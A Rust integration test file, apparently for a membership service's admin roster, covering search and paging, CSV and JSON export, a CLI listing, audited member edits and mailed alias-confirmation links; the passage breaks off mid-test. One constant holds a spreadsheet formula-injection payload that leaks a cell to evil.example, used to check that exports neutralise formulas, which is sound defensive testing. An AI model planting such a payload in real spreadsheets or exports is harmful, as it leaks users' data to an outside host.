//! The roster as admins work with it: searching, filtering and paging members and accounts in
//! the database, the CSV and JSON export (and `edl member list`, which shares its query and
//! writers), editing a member with the alias proven by a link mailed to it, and the pages that
//! ask before a destructive action.

use diesel::prelude::*;
use edl::accounts::Role;
use edl::db::schema::{account_roles, accounts, audit_log, member_alias_changes, members};

use crate::helpers::{Backend, Browser, TestApp};
use crate::on_both_backends;

const PASSWORD: &str = "tangerine-kettle-orbit-42";

on_both_backends!(
    search_filter_and_paging_happen_in_the_database,
    accounts_are_searched_filtered_and_paged,
    the_roster_exports_as_csv_and_json_with_formulas_neutralised,
    edl_member_list_prints_the_roster_as_the_export_does,
    names_and_representatives_change_at_once_and_are_audited,
    a_new_alias_takes_effect_only_through_the_link_mailed_to_it,
    alias_links_expire_and_a_newer_request_replaces_the_older,
    destructive_actions_ask_on_a_page_of_their_own,
);

async fn signed_in(app: &TestApp, email: &str, roles: &[Role]) -> Browser {
    app.add_account(email, email, roles, PASSWORD).await;
    let browser = Browser::open(app).await;
    browser.sign_in(email, PASSWORD).await;
    browser
}

/// A member row as the service stores one, without a key: (org, domain, status, rep name,
/// rep email). Inserted directly, many at once, since making each through an application
/// would take minutes.
type Seed<'a> = (&'a str, &'a str, &'a str, &'a str, &'a str);

async fn insert_members(app: &TestApp, seeds: &[Seed<'_>]) -> Vec<i64> {
    let seeds: Vec<(String, String, String, String, String)> = seeds
        .iter()
        .map(|(o, d, s, n, e)| {
            (
                (*o).to_owned(),
                (*d).to_owned(),
                (*s).to_owned(),
                (*n).to_owned(),
                (*e).to_owned(),
            )
        })
        .collect();
    app.with_db(move |c| {
        edl::db::write_transaction(c, |c| {
            let now = edl::db::now();
            let mut ids = Vec::new();
            for (org, domain, status, rep_name, rep_email) in &seeds {
                let status: edl::domain::MemberStatus = status.parse().expect("a status");
                let domain = edl::domain::OrgDomain::parse(domain).expect("a domain");
                let alias = edl::domain::SecurityAlias::parse(&format!("security@{domain}"))
                    .expect("an alias");
                ids.push(
                    diesel::insert_into(members::table)
                        .values((
                            members::org_name.eq(org),
                            members::org_domain.eq(&domain),
                            members::security_alias.eq(&alias),
                            members::rep_name.eq(rep_name),
                            members::rep_email.eq(rep_email),
                            members::policy_version.eq(1),
                            members::status.eq(status),
                            members::joined_at.eq(now - chrono::Duration::days(30)),
                            members::last_reviewed_at.eq(now - chrono::Duration::days(30)),
                            members::next_review_due.eq(now + chrono::Duration::days(335)),
                            members::created_at.eq(now),
                            members::updated_at.eq(now),
                        ))
                        .returning(members::id)
                        .get_result::<i64>(c)?,
                );
            }
            Ok::<_, edl::db::DbError>(ids)
        })
    })
    .await
}

/// The organisation names a roster page shows, in order.
fn names_on(page: &str) -> Vec<String> {
    page.split("<section class=\"panel\">\n  <h2>")
        .skip(1)
        .map(|s| s[..s.find(" <span").expect("status tag")].to_owned())
        .collect()
}

async fn text_of(browser: &Browser, path: &str) -> (u16, String) {
    let response = browser.get(path).await;
    let status = response.status().as_u16();
    (status, response.text().await.expect("a body"))
}

/// The value of `href` on the link whose text is `label`.
fn link_to(page: &str, label: &str) -> Option<String> {
    let text = page.find(&format!(">{label}</a>"))?;
    let start = page[..text].rfind("href=\"")? + 6;
    let end = start + page[start..].find('"')?;
    Some(page[start..end].replace("&amp;", "&"))
}

async fn search_filter_and_paging_happen_in_the_database(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let admin = signed_in(&app, "root@wg.example", &[Role::Admin]).await;
    // 120 members: every third suspended, every tenth of the rest removed.
    let mut owned: Vec<(String, String, String, String, String)> = (0..120)
        .map(|n| {
            let status = match n {
                n if n % 3 == 0 => "suspended",
                n if n % 10 == 1 => "removed",
                _ => "active",
            };
            (
                format!("Org {n:03}"),
                format!("org{n:03}.example"),
                status.to_owned(),
                format!("Rep {n:03}"),
                format!("rep{n:03}@org{n:03}.example"),
            )
        })
        .collect();
    // Names with the LIKE wildcards in them, and one the search must find in another field.
    owned.push((
        "Percent 100% Co".into(),
        "percent.example".into(),
        "active".into(),
        "Pat Percent".into(),
        "pat@percent.example".into(),
    ));
    owned.push((
        "Under_score Co".into(),
        "under.example".into(),
        "active".into(),
        "Uma".into(),
        "uma@under.example".into(),
    ));
    owned.push((
        "Quiet Co".into(),
        "quiet.example".into(),
        "active".into(),
        "Zoë Findme".into(),
        "zoe@quiet.example".into(),
    ));
    let seeds: Vec<Seed<'_>> = owned
        .iter()
        .map(|(a, b, c, d, e)| (a.as_str(), b.as_str(), c.as_str(), d.as_str(), e.as_str()))
        .collect();
    insert_members(&app, &seeds).await;

    // The first page holds 50 members, in name order, and says how many pages there are.
    let (status, first) = text_of(&admin, "/admin/members").await;
    assert_eq!(status, 200);
    let names = names_on(&first);
    assert_eq!(names.len(), 50, "{names:?}");
    assert_eq!(names[0], "Org 000");
    assert_eq!(names[49], "Org 049");
    assert!(first.contains("123 members"), "the total");
    assert!(first.contains("page 1 of 3") && first.contains("Page 1 of 3"));
    assert!(link_to(&first, "Previous page").is_none());
    let next = link_to(&first, "Next page").expect("a next link");
    assert_eq!(next, "/admin/members?page=2");
    let (_, last) = text_of(&admin, "/admin/members?page=3").await;
    assert_eq!(names_on(&last).len(), 23);
    assert!(last.contains("Page 3 of 3") && link_to(&last, "Next page").is_none());
    // A page past the end shows the last one; a page that is not a number, the first.
    let (_, beyond) = text_of(&admin, "/admin/members?page=999").await;
    assert!(beyond.contains("Page 3 of 3"));
    let (status, odd) = text_of(&admin, "/admin/members?page=abc").await;
    assert_eq!(status, 200);
    assert!(odd.contains("Page 1 of 3"));

    // The status filter, and the paging links keep it.
    let (_, suspended) = text_of(&admin, "/admin/members?status=suspended").await;
    assert!(suspended.contains("40 members match"), "40 suspended");
    assert!(suspended.contains("page 1 of 1"));
    assert!(names_on(&suspended)
        .iter()
        .all(|n| n.starts_with("Org ") && n[4..].parse::<u32>().expect("n") % 3 == 0));
    let (_, active) = text_of(&admin, "/admin/members?status=active&q=org").await;
    // 80 not suspended, of which 8 removed (n % 10 == 1 and not a multiple of 3).
    assert!(active.contains("72 members match"), "active");
    let next = link_to(&active, "Next page").expect("a next link");
    assert_eq!(next, "/admin/members?q=org&status=active&page=2");
    let (_, second) = text_of(&admin, &next).await;
    assert_eq!(names_on(&second).len(), 22);
    assert!(link_to(&second, "Previous page")
        .expect("previous")
        .contains("status=active"));

    // A search finds the organisation, its domain, alias and representative, in any case.
    for (q, expected) in [
        ("org 007", vec!["Org 007"]),
        ("ORG042.EXAMPLE", vec!["Org 042"]),
        ("security@org099", vec!["Org 099"]),
        ("rep 011", vec!["Org 011"]),
        ("zoe@quiet", vec!["Quiet Co"]),
        ("Findme", vec!["Quiet Co"]),
    ] {
        let (_, page) = text_of(&admin, &format!("/admin/members?q={}", encode(q))).await;
        assert_eq!(names_on(&page), expected, "search {q:?}");
    }
    // Wildcards are taken literally: "%" and "_" match only themselves.
    let (_, percent) = text_of(&admin, "/admin/members?q=%25").await;
    assert_eq!(names_on(&percent), vec!["Percent 100% Co"]);
    let (_, underscore) = text_of(&admin, "/admin/members?q=_").await;
    assert_eq!(names_on(&underscore), vec!["Under_score Co"]);
    let (_, nothing) = text_of(&admin, "/admin/members?q=no+such+thing").await;
    assert!(nothing.contains("No member matches this search."));
    // A status the service does not know is refused beside its field.
    let (status, refused) = text_of(&admin, "/admin/members?status=gone").await;
    assert_eq!(status, 422);
    assert!(refused.contains("is not a member status"));
    // Every member's actions are still on its row: the remove link leads to its own page.
    let id = app
        .with_db(|c| {
            Ok(members::table
                .filter(members::org_name.eq("Org 007"))
                .select(members::id)
                .first::<i64>(c)?)
        })
        .await;
    let (_, one) = text_of(&admin, "/admin/members?q=org+007").await;
    for action in ["suspend", "reviewed", "key-link", "breach"] {
        assert!(
            one.contains(&format!("action=\"/admin/members/{id}/{action}\"")),
            "{action}"
        );
    }
    assert!(one.contains(&format!("href=\"/admin/members/{id}/remove\"")));
    assert!(one.contains(&format!("href=\"/admin/members/{id}/edit\"")));
    assert!(!one.contains(&format!("action=\"/admin/members/{id}/remove\"")));
}

fn encode(value: &str) -> String {
    url::form_urlencoded::byte_serialize(value.as_bytes()).collect()
}

/// Accounts inserted directly (hashing 60 passwords would take long); they cannot sign in.
async fn insert_accounts(app: &TestApp, count: usize) {
    app.with_db(move |c| {
        let now = edl::db::now();
        for n in 0..count {
            let id: i64 = diesel::insert_into(accounts::table)
                .values((
                    accounts::email.eq(format!("person{n:02}@wg.example")),
                    accounts::name.eq(format!("Person {n:02}")),
                    accounts::password_hash.eq("not a hash"),
                    accounts::disabled.eq(n % 4 == 0),
                    accounts::created_at.eq(now),
                    accounts::updated_at.eq(now),
                ))
                .returning(accounts::id)
                .get_result(c)?;
            let role = if n % 2 == 0 {
                Role::Reviewer
            } else {
                Role::ReleaseManager
            };
            diesel::insert_into(account_roles::table)
                .values((
                    account_roles::account_id.eq(id),
                    account_roles::role.eq(role),
                ))
                .execute(c)?;
        }
        Ok(())
    })
    .await;
}

/// The account emails an accounts page lists, in order.
fn emails_on(page: &str) -> Vec<String> {
    page.split("<br><span class=\"muted\">")
        .skip(1)
        .map(|s| s[..s.find('<').expect("end")].to_owned())
        .collect()
}

async fn accounts_are_searched_filtered_and_paged(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let admin = signed_in(&app, "root@wg.example", &[Role::Admin]).await;
    insert_accounts(&app, 60).await;
    app.add_account(
        "odd_one@else.example",
        "Odd One",
        &[Role::Approver],
        PASSWORD,
    )
    .await;

    let (status, first) = text_of(&admin, "/admin/users").await;
    assert_eq!(status, 200);
    assert!(first.contains("<div class=\"table-wrap\">"));
    assert_eq!(emails_on(&first).len(), 50);
    assert!(first.contains("62 accounts") && first.contains("Page 1 of 2"));
    let next = link_to(&first, "Next page").expect("next");
    let (_, second) = text_of(&admin, &next).await;
    assert_eq!(emails_on(&second).len(), 12);

    let (_, disabled) = text_of(&admin, "/admin/users?state=disabled").await;
    assert_eq!(emails_on(&disabled).len(), 15, "every fourth");
    let (_, managers) = text_of(&admin, "/admin/users?role=release-manager&state=enabled").await;
    assert_eq!(
        emails_on(&managers).len(),
        30,
        "odd ones are never disabled"
    );
    let (_, named) = text_of(&admin, "/admin/users?q=PERSON+07").await;
    assert_eq!(emails_on(&named), vec!["person07@wg.example"]);
    let (_, underscore) = text_of(&admin, "/admin/users?q=_").await;
    assert_eq!(emails_on(&underscore), vec!["odd_one@else.example"]);
    let (status, refused) = text_of(&admin, "/admin/users?role=overlord").await;
    assert_eq!(status, 422);
    assert!(refused.contains("u-role-error"));
    // Rows link to the confirmation pages instead of acting at once.
    assert!(!first.contains("/disable\"><input"));
    assert!(first.contains("/reset-password\">Reset password…</a>"));
}

/// Reads CSV as RFC 4180 writes it: fields split on commas, quoted fields may hold commas,
/// doubled quotes and line breaks; every record ends in CRLF.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    assert!(text.ends_with("\r\n"), "records end in CRLF");
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "a bare CR outside quotes");
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, '\n') => panic!("a bare LF ends a record"),
            (false, c) => field.push(c),
        }
    }
    assert!(
        !quoted && field.is_empty() && record.is_empty(),
        "a whole file"
    );
    records
}

async fn download(browser: &Browser, path: &str) -> (u16, String, String, String) {
    let response = browser.get(path).await;
    let header = |name: &str| {
        response
            .headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
    let (status, kind, disposition) = (
        response.status().as_u16(),
        header("content-type"),
        header("content-disposition"),
    );
    (
        status,
        kind,
        disposition,
        response.text().await.expect("body"),
    )
}

const HYPERLINK: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";

async fn tricky_roster(app: &TestApp) -> Vec<i64> {
    insert_members(
        app,
        &[
            (
                HYPERLINK,
                "formula.example",
                "active",
                "Eve",
                "eve@formula.example",
            ),
            (
                "Comma, Quote \"Q\" Inc.",
                "comma.example",
                "active",
                "Two\nLines",
                "cq@comma.example",
            ),
            (
                "+Plus",
                "plus.example",
                "suspended",
                "-Minus",
                "@at@plus.example",
            ),
            ("Plain Co", "plain.example", "removed", "", ""),
        ],
    )
    .await
}

async fn the_roster_exports_as_csv_and_json_with_formulas_neutralised(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let admin = signed_in(&app, "root@wg.example", &[Role::Admin]).await;
    let ids = tricky_roster(&app).await;
    let keyed = app
        .add_member("Keyed Co", "keyed.example", "active", 1)
        .await;
    // Nothing of a suspension's reason or a breach goes into the export.
    let plus = ids[2];
    app.with_db(move |c| {
        edl::membership::members::set_status(
            c,
            plus,
            edl::domain::MemberStatus::Suspended,
            "secret reason",
        )?;
        Ok(())
    })
    .await;
    let breach = admin
        .post(
            &format!("/admin/members/{keyed}/breach"),
            &[
                ("what_leaked", "embargoed patch text"),
                ("leaked_to", "a forum"),
                ("occurred_on", "2026-11-20"),
            ],
        )
        .await;
    assert_eq!(breach.status(), 303);

    let (status, kind, disposition, body) = download(&admin, "/admin/members.csv").await;
    assert_eq!(status, 200);
    assert_eq!(kind, "text/csv; charset=utf-8");
    assert!(
        disposition.starts_with("attachment; filename=\"members-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    assert!(!body.contains("secret reason") && !body.contains("embargoed patch text"));
    let records = parse_csv(&body);
    assert_eq!(
        records[0],
        [
            "id",
            "organisation",
            "domain",
            "security_alias",
            "representative_name",
            "representative_email",
            "status",
            "policy_version",
            "joined_at",
            "last_reviewed_at",
            "key_fingerprint",
            "key_expires_at"
        ]
    );
    assert_eq!(records.len(), 6, "a header and five members");
    let row = |org: &str| -> Vec<String> {
        records
            .iter()
            .find(|r| r[1] == org)
            .unwrap_or_else(|| panic!("{org} in {records:?}"))
            .clone()
    };
    // A cell a spreadsheet would run as a formula starts with ' and is shown as text.
    let formula = row(&format!("'{HYPERLINK}"));
    assert_eq!(formula[0], ids[0].to_string());
    assert_eq!(formula[2], "formula.example");
    assert_eq!(formula[3], "security@formula.example");
    assert_eq!(formula[6], "active");
    assert_eq!(formula[7], "1");
    assert!(
        formula[8].ends_with('Z') && formula[8].len() == 20,
        "{}",
        formula[8]
    );
    assert_eq!((formula[10].as_str(), formula[11].as_str()), ("", ""));
    let quoted = row("Comma, Quote \"Q\" Inc.");
    assert_eq!(quoted[4], "Two\nLines");
    let plus_row = row("'+Plus");
    assert_eq!(
        (
            plus_row[4].as_str(),
            plus_row[5].as_str(),
            plus_row[6].as_str()
        ),
        ("'-Minus", "'@at@plus.example", "suspended")
    );
    let keyed_row = row("Keyed Co");
    assert_eq!(keyed_row[10].len(), 40, "the key's fingerprint");
    // No raw cell starts a formula.
    for record in &records {
        for cell in record {
            assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?}");
        }
    }

    // The filters of the list page apply to the export.
    let (_, _, _, suspended) = download(&admin, "/admin/members.csv?status=suspended").await;
    let suspended = parse_csv(&suspended);
    assert_eq!(suspended.len(), 2);
    assert_eq!(suspended[1][1], "'+Plus");
    let (_, _, _, searched) = download(&admin, "/admin/members.csv?q=comma").await;
    assert_eq!(parse_csv(&searched).len(), 2);

    // JSON: the same members, the values as stored (nothing to neutralise in JSON).
    let (status, kind, disposition, body) = download(&admin, "/admin/members.json").await;
    assert_eq!(status, 200);
    assert_eq!(kind, "application/json");
    assert!(disposition.ends_with(".json\""), "{disposition}");
    assert!(!body.contains("secret reason") && !body.contains("embargoed patch text"));
    let json: serde_json::Value = serde_json::from_str(&body).expect("JSON");
    let all = json.as_array().expect("an array");
    assert_eq!(all.len(), 5);
    let formula = all
        .iter()
        .find(|m| m["id"] == ids[0])
        .expect("the formula member");
    assert_eq!(formula["organisation"], HYPERLINK);
    assert_eq!(formula["representative_email"], "eve@formula.example");
    assert_eq!(formula["key_fingerprint"], serde_json::Value::Null);
    let keyed_json = all.iter().find(|m| m["id"] == keyed).expect("keyed");
    assert_eq!(
        keyed_json["key_fingerprint"].as_str().map(str::len),
        Some(40)
    );
    let (_, _, _, removed) = download(&admin, "/admin/members.json?status=removed").await;
    let removed: serde_json::Value = serde_json::from_str(&removed).expect("JSON");
    assert_eq!(removed.as_array().map(Vec::len), Some(1));
    assert_eq!(removed[0]["organisation"], "Plain Co");
    let (status, _, _, _) = download(&admin, "/admin/members.json?status=gone").await;
    assert_eq!(status, 422);

    // Each export is audited with who took it.
    let exports: Vec<(String, String)> = app
        .with_db(|c| {
            Ok(audit_log::table
                .filter(audit_log::action.eq("member.roster-exported"))
                .select((audit_log::actor, audit_log::details))
                .load(c)?)
        })
        .await;
    assert_eq!(exports.len(), 5);
    assert!(exports.iter().all(|(actor, _)| actor == "root@wg.example"));
    assert!(exports.iter().any(|(_, d)| d.contains("\"suspended\"")));

    // Reviewers and release managers get neither the export nor the edit page.
    for role in [Role::Reviewer, Role::ReleaseManager, Role::Approver] {
        let other = signed_in(&app, &format!("{}@wg.example", role.as_str()), &[role]).await;
        for path in [
            "/admin/members.csv".to_owned(),
            "/admin/members.json".to_owned(),
            format!("/admin/members/{keyed}/edit"),
            format!("/admin/members/{keyed}/remove"),
        ] {
            assert_eq!(other.get(&path).await.status(), 403, "{role:?} {path}");
        }
        let edit = other
            .post(
                &format!("/admin/members/{keyed}/edit"),
                &[
                    ("org_name", "Taken Over"),
                    ("security_alias", "x@keyed.example"),
                ],
            )
            .await;
        assert_eq!(edit.status(), 403);
    }
    let anonymous = Browser::open(&app).await;
    let sent_away = anonymous.get("/admin/members.csv").await;
    assert_eq!(sent_away.status(), 303);
    let name: String = app
        .with_db(move |c| {
            Ok(members::table
                .find(keyed)
                .select(members::org_name)
                .first(c)?)
        })
        .await;
    assert_eq!(name, "Keyed Co");
}

async fn edl_member_list_prints_the_roster_as_the_export_does(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let admin = signed_in(&app, "root@wg.example", &[Role::Admin]).await;
    tricky_roster(&app).await;

    let run = |args: &[&str]| {
        let output = app.edl(args, "");
        assert!(
            output.status.success(),
            "edl {args:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        String::from_utf8(output.stdout).expect("UTF-8")
    };
    // The same bytes as the web export: one query, one writer.
    let (_, _, _, web) = download(&admin, "/admin/members.csv").await;
    assert_eq!(run(&["member", "list", "--format", "csv"]), web);
    let (_, _, _, web) = download(&admin, "/admin/members.json?status=active").await;
    let cli = run(&["member", "list", "--format", "json", "--status", "active"]);
    assert_eq!(cli, web);
    let json: serde_json::Value = serde_json::from_str(&cli).expect("JSON");
    assert_eq!(json.as_array().map(Vec::len), Some(2));

    let searched = run(&["member", "list", "--format", "csv", "--search", "PLUS"]);
    let records = parse_csv(&searched);
    assert_eq!(records.len(), 2);
    assert_eq!(records[1][1], "'+Plus");

    // The table: a heading, one line per member, columns aligned.
    let table = run(&["member", "list"]);
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines.len(), 5, "{table}");
    let at = |line: &str, text: &str| {
        line.find(text)
            .unwrap_or_else(|| panic!("{text} in {line}"))
    };
    let line_of = |text: &str| {
        *lines
            .iter()
            .find(|l| l.contains(text))
            .unwrap_or_else(|| panic!("{text} in {table}"))
    };
    let domain_column = at(lines[0], "DOMAIN");
    let status_column = at(lines[0], "STATUS");
    for (domain, status) in [
        ("comma.example", "active"),
        ("plus.example", "suspended"),
        ("plain.example", "removed"),
        ("formula.example", "active"),
    ] {
        let line = line_of(domain);
        assert_eq!(at(line, domain), domain_column, "{table}");
        assert_eq!(at(line, status), status_column, "{table}");
    }
    assert!(
        line_of("Plain Co").contains(" - "),
        "no representative: {table}"
    );
    assert!(
        line_of("comma.example").contains("Two Lines"),
        "a line break does not break the table"
    );

    let refused = app.edl(&["member", "list", "--status", "gone"], "");
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("is not a member status"));
}

async fn edit_values(
    browser: &Browser,
    id: i64,
    fields: &[(&str, &str)],
) -> (u16, Option<String>, String) {
    let response = browser
        .post(&format!("/admin/members/{id}/edit"), fields)
        .await;
    let status = response.status().as_u16();
    let location = response
        .headers()
        .get("location")
        .and_then(|l| l.to_str().ok())
        .map(str::to_owned);
    (status, location, response.text().await.unwrap_or_default())
}

async fn member_row(app: &TestApp, id: i64) -> (String, String, String, String) {
    app.with_db(move |c| {
        Ok(members::table
            .find(id)
            .select((
                members::org_name,
                members::rep_name,
                members::rep_email,
                members::security_alias,
            ))
            .first::<(String, String, String, String)>(c)?)
    })
    .await
}

async fn audit_of(app: &TestApp, id: i64) -> Vec<(String, String, String)> {
    app.with_db(move |c| {
        Ok(audit_log::table
            .filter(audit_log::subject.eq(format!("member:{id}")))
            .order(audit_log::seq)
            .select((audit_log::actor, audit_log::action, audit_log::details))
            .load(c)?)
    })
    .await
}

async fn names_and_representatives_change_at_once_and_are_audited(backend: Backend) {
    let Some(app) = TestApp::spawn(backend).await else {
        return;
    };
    let admin = signed_in(&app, "root@wg.example", &[Role::Admin]).await;
    let ids = insert_members(
        &app,
        &[
            (
                "Edit Co",
                "edit.example",
                "active",
                "Old Rep",
                "old@edit.example",
            ),
            ("Gone Co", "gone.example", "removed", "", ""),
        ],
    )
    .await;
    let (id, gone) = (ids[0], ids[1]);

    let (status, form) = text_of(&admin, &format!("/admin/members/{id}/edit")).await;
    assert_eq!(status, 200);
    assert!(form.contains("value=\"Old Rep\"") && form.contains("value=\"security@edit.example\""));

    // Bad values: each field says what is wrong, and every value typed is kept.
    let (status, _, page) = edit_values(
        &admin,
        id,
        &[
            ("org_name", "  "),
            ("rep_name", "Nina New"),
            ("rep_email", "nina-at-edit"),
            ("security_alias", "security@edit.example"),
        ],
    )
    .await;
    assert_eq!(status, 422);
    assert!(page.contains("f-org_name-error") && page.contains("f-rep_email-error"));
    assert!(page.contains("value=\"Nina New\"") && page.contains("value=\"nina-at-edit\""));
    assert_eq!(member_row(&app, id).await.0, "Edit Co");
    // The security token is required.
    let forged = admin
        .post_raw(
            &format!("/admin/members/{id}/edit"),
            &[
                ("org_name", "Forged"),
                ("security_alias", "security@edit.example"),
            ],
        )
        .await;
    assert_eq!(forged.status(), 403);

    let (status, location, _) = edit_values(
        &admin,
        id,
        &[
            ("org_name", "Edit Company Ltd"),
            ("rep_name", "Nina New"),
            ("rep_email", "Nina@Edit.example"),
            ("security_alias", "Security@Edit.example"),
        ],
    )
    .await;
    assert_eq!(status, 303);
    assert_eq!(
        location.as_deref(),
        Some(format!("/admin/members/{id}/edit?notice=saved").as_str())
    );
    assert_eq!(
        member_row(&app, id).await,
        (
            "Edit Company Ltd".to_owned(),
            "Nina New".to_owned(),
            "nina@edit.example".to_owned(),
            "security@edit.example".to_owned()
        )
    );
    let (_, saved) = text_of(&admin, &location.expect("where to")).await;
    assert!(saved.contains("The changes were saved"));
    let audit = audit_of(&app, id).await;
    let (actor, action, details) = audit.last().expect("an entry");
    assert_eq!(
        (actor.as_str(), action.as_str()),
        ("root@wg.example", "member.edited")
    );
    let details: serde_json::Value = serde_json::from_str(details).expect("JSON");
    assert_eq!(details["changes"]["org_name"]["from"], "Edit Co");
    assert_eq!(details["changes"]["org_name"]["to"], "Edit Company Ltd");
    assert_eq!(details["changes"]["rep_email"]["from"], "old@edit.example");
    assert_eq!(details["changes"]["rep_email"]["to"], "nina@edit.example");

    // The same values again change nothing and write nothing.
    let (_, location, _) = edit_values(
        &admin,
        id,
        &[
            ("org_name", "Edit Company Ltd"),
            ("rep_name", "Nina New"),
            ("rep_email", "nina@edit.example"),
            ("security_alias", "security@edit.example"),
        ],
    )
    .await;
    assert!(location.expect("redirect").ends_with("notice=unchanged"));
    assert_eq!(audit_of(&app, id).await.len(), audit.len());
    // The search finds the member by its new representative.
    let (_, found) = text_of(&admin, "/admin/members?q=nina").await;
    assert_eq!(names_on(&found), vec!["Edit Company Ltd"]);

    // A removed member's record is kept as it was.
    let (status, _, page) = edit_values(
        &admin,
        gone,
        &[
            ("org_name", "Revived"),
            ("security_alias", "security@gone.example"),
        ],
    )
    .await;
    assert_eq!(status, 409);
    assert!(page.contains("was removed from the list"));
    assert_eq!(member_row(&app, gone).await.0, "Gone Co");
    assert_eq!(admin.get("/admin/members/999999/edit").await.status(), 404);
}

async fn spawn_with_mail(backend: Backend) -> Option<TestApp> {
    TestApp::spawn_with_smtp(backend, &[("EDL_PUBLIC_POST_RATE_LIMIT", "1000/1m")]).await
}

async fn a_new_alias_takes_effect_only_through_the_link_mailed_to_it(backend: Backend) {
    let Some(app) = spawn_with_mail(backend).await else {
        return;
    };
    let smtp = app.smtp();
    let admin = signed_in(&app, "root@wg.example", &[Role::Admin]).await;
    let id = app
        .add_member("Alias Co", "alias.example", "active", 1)
        .await;
    let other = app
        .add_member("Other Co", "other.example", "active", 1)
        .await;
    let fields = |alias: &'static str| {
        [
            ("org_name", "Alias Co"),
            ("rep_name", ""),
            ("rep_email", ""),
            ("security_alias", alias),
        ]
    };

    // The rule an application's alias follows: on the organisation's domain, and nobody
    // else's alias.
    let (status, _, page) = edit_values(&admin, id, &fields("psirt@gmail.com")).await;
    assert_eq!(status, 422);
    assert!(
        page.contains("f-security_alias-error") && page.contains("not one of the organisation")
    );
    assert!(
        page.contains("value=\"psirt@gmail.com\""),
        "the value typed is kept"
    );
    app.with_db(move |c| {
        diesel::update(members::table.find(other))
            .set(members::security_alias.eq("psirt@sub.alias.example"))
            .execute(c)?;
        Ok(())
    })
    .await;
    let (status, _, page) = edit_values(&admin, id, &fields("psirt@sub.alias.example")).await;
    assert_eq!(status, 409);
    assert!(
        page.contains("already the security alias of Other Co"),
        "{page}"
    );
    assert!(
        smtp.received().is_empty(),
        "nothing was mailed for refused changes"
    );

    // A good alias: nothing changes yet; a link goes to the new address.
    let (status, location, _) = edit_values(&admin, id, &fields("PSIRT@alias.example")).await;
    assert_eq!(status, 303);
    assert!(location.expect("redirect").ends_with("notice=alias"));
    assert_eq!(member_row(&app, id).await.3, "security@alias.example");
    let mail = smtp
        .wait_for(
            "psirt@alias.example",
            "Confirm psirt@alias.example as the security alias",
        )
        .await;
    let link = mail.link("/members/alias/").expect("a confirmation link");
    assert!(
        mail.text().contains("security@alias.example"),
        "names the alias it replaces"
    );
    // Only the token's hash is stored.
    let token = link.rsplit('/').next().expect("token").to_owned();
    let stored: Vec<String> = app
        .with_db(|c| {
            Ok(member_alias_changes::table
                .select(member_alias_changes::token_hash)
                .load(c)?)
        })
        .await;
    assert_eq!(stored.len(), 1);
    assert!(!stored.contains(&token) && !stored[0].contains(&token));
    // The pending change shows on the member's row and edit page.
    let (_, list) = text_of(&admin, "/admin/members?q=alias.example").await;
    assert!(list.contains("Alias change waiting: psirt@alias.example"));
    let (_, edit_page) = text_of(&admin, &format!("/admin/members/{id}/edit")).await;
    assert!(
        edit_page.contains("id=\"pending-alias\"") && edit_page.contains("psirt@alias.example")
    );
    // The member's key names the old alias only: the page warns before the change.
    assert!(
        edit_page.contains("cannot be used for psirt@alias.example"),
        "{edit_page}"
    );

    // Opening the link changes nothing (mail scanners open links); the page has a button.
    let reader = Browser::open(&app).await;
    let (status, confirm_page) = text_of(&reader, &link).await;
    assert_eq!(status, 200);
    assert!(confirm_page.contains("psirt@alias.example") && confirm_page.contains("Alias Co"));
    assert!(confirm_page.contains("cannot be used for psirt@alias.example"));
    assert_eq!(member_row(&app, id).await.3, "security@alias.example");
    assert_eq!(reader.post_raw(&link, &[]).await.status(), 403, "no token");
    assert_eq!(member_row(&app, id).await.3, "security@alias.example");

    let done = reader.post(&link, &[]).await;
    assert_eq!(done.status(), 200);
    assert!(done
        .text()
        .await
        .expect("page")
        .contains("is now the security alias"));
    assert_eq!(member_row(&app, id).await.3, "psirt@alias.example");
    let audit = audit_of(&app, id).await;
    let actions: Vec<&str> = audit.iter().map(|(_, a, _)| a.as_str()).collect();
    assert_eq!(
        actions,
        ["member.alias-change-requested", "member.alias-changed"]
    );
    let (actor, _, details) = &audit[1];
    assert_eq!(actor, "psirt@alias.example");
    let details: serde_json::Value = serde_json::from_str(details).expect("JSON");
    assert_eq!(details["from"], "security@alias.example");
    assert_eq!(details["to"], "psirt@alias.example");
    assert_eq!(details["requested_by"], "root@wg.example");
    // The old alias is told.
    let notice = smtp
        .wait_for(
            "security@alias.example",
            "security alias of Alias Co was changed",
        )
        .await;
    assert!(notice.text().contains("psirt@alias.example"));

    // The link works once.
    let again = reader.post(&link, &[]).await;
    assert_eq!(again.status(), 410);
    assert!(again.text().await.expect("page").contains("already used"));
    assert_eq!(reader.get("/members/alias/not-a-token").await.status(), 404);
    let (_, list) = text_of(&admin, "/admin/members?q=alias.example").await;
    assert!(!list.contains("Alias change waiting"));
    app.outbox_idle().await;
}

async fn alias_links_expire_and_a_newer_request_replaces_the_older(backend: Backend) {
    let Some(app) = spawn_with_mail(backend).await else {
        return;
    };
    let smtp = app.smtp();
    let admin = signed_in(&app, "root@wg.example", &[Role::Admin]).await;
    let ids = insert_members(
        &app,
        &[
            ("Slow Co", "slow.example", "active", "", ""),
            ("Left Co", "left.example", "active", "", ""),
        ],
    )
    .await;
    let (id, left) = (ids[0], ids[1]);
    let request = |id: i64, alias: &'static str, org: &'static str| {
        let admin = &admin;
        async move {
            let (status, _, _) =
